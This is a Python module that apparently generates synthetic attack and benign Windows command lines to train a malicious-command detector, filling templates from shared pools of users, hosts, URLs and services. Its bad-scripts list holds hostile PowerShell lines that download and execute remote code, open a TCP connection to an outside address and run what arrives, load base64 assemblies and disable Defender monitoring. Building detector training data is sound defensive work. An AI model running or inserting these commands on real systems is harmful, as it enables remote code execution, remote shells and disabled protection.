"""Makes up the command lines that the model learns from: attacks and ordinary use.

Both are filled from the same pools of names, addresses and files, so that no such word tells them
apart. The attacks' templates are in `train_attacks.txt`, the others in `train_benign.txt`.
"""

import base64
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from importlib.resources import files
from typing import Final

import numpy as np

_SLOT: Final = re.compile(r"\{([a-z]+[0-9]*)\}")
_POOLS: Final[dict[str, Sequence[str]]] = {
    "u": (
        "anna",
        "bsmith",
        "svc_backup",
        "j.doe",
        "admin2",
        "carla",
        "deploy",
        "mkovacs",
        "it-support",
    ),
    "d": ("corp.local", "ad.example.com", "contoso.lan", "factory", "hq.internal", "example.org"),
    "host": ("SRV01", "DC-2", "fileserver", "ws-0417", "sql-prod", "web3", "LAPTOP-9Q2", "nas"),
    "ip": ("10.1.4.20", "192.168.56.7", "172.16.9.31", "203.0.113.44", "198.51.100.9", "10.0.0.5"),
    "site": ("example.com", "downloads.example.org", "intranet.corp.local", "api.example.net"),
    "url": (
        "http://203.0.113.9/a",
        "https://files.example.com/x.txt",
        "http://198.51.100.7:8080/s.ps1",
        "https://example.net/raw/k",
        "http://10.9.8.7/p.exe",
        "https://cdn.example.org/i.png",
    ),
    "pw": ("Summer2026!", "P@ssw0rd", "hunter22", "Qwertz123", "x9!kLm"),
    "tmp": (
        "C:\\Users\\Public",
        "C:\\Windows\\Temp",
        "C:\\Temp",
        "%TEMP%",
        "C:\\ProgramData",
        "C:\\Users\\anna\\AppData\\Local\\Temp",
        "C:\\Users\\bsmith\\Downloads",
        "D:\\data",
        ".",
    ),
    "share": ("data", "tools", "scripts", "public", "Temp", "apps", "work", "inetpub"),
    "doc": ("report", "budget 2026", "minutes", "invoice", "export", "list", "photo", "archive"),
    "vendor": (
        "Contoso",
        "Fabrikam",
        "Adatum",
        "Northwind",
        "Litware",
        "Lenovo",
        "Dell",
        "HP",
        "Intel",
    ),
    "appname": (
        "Agent",
        "Sync",
        "Backup",
        "Updater",
        "Viewer",
        "Inventory",
        "Calculator",
        "Photos",
        "Monitor",
        "Support",
        "Client",
        "Management",
        "Security",
        "Display",
        "Connect",
    ),
    "printer": ("HP-2OG", "Kyocera", "Lobby", "PRN04"),
    "svc": (
        "BITS",
        "wuauserv",
        "Spooler",
        "Schedule",
        "W32Time",
        "Dhcp",
        "Netlogon",
        "AppXSvc",
        "ClipSVC",
        "WinRM",
        "Themes",
        "LanmanServer",
        "EventLog",
        "gpsvc",
        "MSSQLSERVER",
        "W3SVC",
    ),
    "svcl": (
        "nginx",
        "sshd",
        "docker",
        "postgresql",
        "cron",
        "apache2",
        "rsyslog",
        "mysql",
        "auditd",
    ),
    "svcgroup": (
        "netsvcs",
        "LocalService",
        "LocalServiceNetworkRestricted",
        "appmodel",
        "wsappx",
        "LocalSystemNetworkRestricted",
        "DcomLaunch",
        "UnistackSvcGroup",
        "NetworkService",
        "WerSvcGroup",
        "swprv",
        "wusvcs",
        "BthAppGroup",
    ),
    "sysdll": (
        "AppxDeploymentClient",
        "inetcpl",
        "msxml6",
        "oleaut32",
        "sysmain",
        "Startupscan",
        "TpmTasks",
        "shell32",
        "wininet",
        "scrrun",
        "vbscript",
        "actxprxy",
    ),
    "msc": (
        "services",
        "compmgmt",
        "eventvwr",
        "gpedit",
        "dsa",
        "devmgmt",
        "taskschd",
        "diskmgmt",
        "dhcpmgmt",
    ),
    "cpl": ("appwiz", "ncpa", "timedate", "desk", "main", "sysdm", "powercfg", "mmsys"),
}
_SYLLABLES: Final = (
    "ba",
    "con",
    "da",
    "er",
    "fin",
    "gra",
    "ho",
    "in",
    "ka",
    "lo",
    "mer",
    "no",
    "or",
    "pro",
    "ra",
    "se",
    "ta",
    "ul",
    "vi",
    "wa",
    "xe",
    "zo",
)
_BAD_SCRIPTS: Final = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    "$c=New-Object Net.Sockets.TCPClient('198.51.100.7',4444);$s=$c.GetStream();iex $s",
    "Invoke-Expression (Invoke-WebRequest https://example.net/raw/k -UseBasicParsing).Content",
    "Start-Process C:\\Users\\Public\\k.exe -WindowStyle Hidden",
    "[Reflection.Assembly]::Load([Convert]::FromBase64String($x)).EntryPoint.Invoke($null,$null)",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
)
_GOOD_SCRIPTS: Final = (
    "Get-Service | Where-Object Status -eq 'Running' | ConvertTo-Json",
    "$ProgressPreference='SilentlyContinue'; Get-CimInstance Win32_OperatingSystem",
    "& 'C:\\ProgramData\\Contoso\\Agent\\inventory.ps1' -Quiet; exit $LASTEXITCODE",
    'chcp.com 65001 > $null; $exec = @\'{"module":"setup"}\'@; $exec | ConvertFrom-Json',
    "if (Test-Path 'C:\\apps\\x') { Remove-Item 'C:\\apps\\x' -Recurse }; Get-Date",
    "[Console]::InputEncoding = New-Object Text.UTF8Encoding $false; Get-Host",
)


@dataclass(frozen=True, slots=True)
class Template:
    """A line with slots: which system it is for, and what attack it is ("" if none)."""

    text: str
    system: str
    technique: str = ""


def attacks() -> tuple[Template, ...]:
    """The templates of attacks."""
    return tuple(_templates("train_attacks.txt", attack=True))


def ordinary() -> tuple[Template, ...]:
    """The templates of ordinary use."""
    return tuple(_templates("train_benign.txt", attack=False))


def filled(template: Template, draw: np.random.Generator) -> str:
    """A line of a template; the same draw gives the same line."""
    return _SLOT.sub(lambda found: _word(found[1], found[0], draw), template.text)


def _templates(name: str, *, attack: bool) -> Iterator[Template]:
    text = (files("labrys.detect.evasion") / name).read_text("utf-8")
    first, second = "", ""
    for line in text.splitlines():
        if line.startswith("[") and line.endswith("]") and line.count(" ") == 1 and "'" not in line:
            first, second = line[1:-1].split(" ")
        elif line and not line.startswith("#"):
            yield Template(line, second, first) if attack else Template(line, first)


def _word(name: str, slot: str, draw: np.random.Generator) -> str:
    made = slot
    if name in _POOLS:
        made = _POOLS[name][int(draw.integers(len(_POOLS[name])))]
    elif name in _MADE:
        made = _MADE[name](draw)
    elif name.startswith("hex"):
        made = draw.bytes(int(name[3:]) // 2).hex()
    return made


def _guid(draw: np.random.Generator) -> str:
    text = draw.bytes(16).hex().upper()
    return f"{{{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}}}"


def _base64_of(scripts: Sequence[str], draw: np.random.Generator) -> str:
    script = scripts[int(draw.integers(len(scripts)))]
    return base64.b64encode(script.encode("utf-16-le")).decode()


_MADE: Final[Mapping[str, Callable[[np.random.Generator], str]]] = {
    "n": lambda draw: str(int(draw.integers(10, 65_000))),
    "w": lambda draw: "".join(_SYLLABLES[int(at)] for at in draw.integers(len(_SYLLABLES), size=3)),
    "ver": lambda draw: ".".join(str(int(part)) for part in draw.integers(0, 120, size=3)),
    "hash": lambda draw: draw.bytes(16).hex(),
    "guid": _guid,
    "uuid": lambda draw: _guid(draw)[1:-1].lower(),
    "appx": lambda draw: draw.bytes(16).hex(),
    "b64": lambda draw: base64.b64encode(draw.bytes(24)).decode(),
    "enc": lambda draw: _base64_of(_BAD_SCRIPTS, draw),
    "encbenign": lambda draw: _base64_of(_GOOD_SCRIPTS, draw),
}
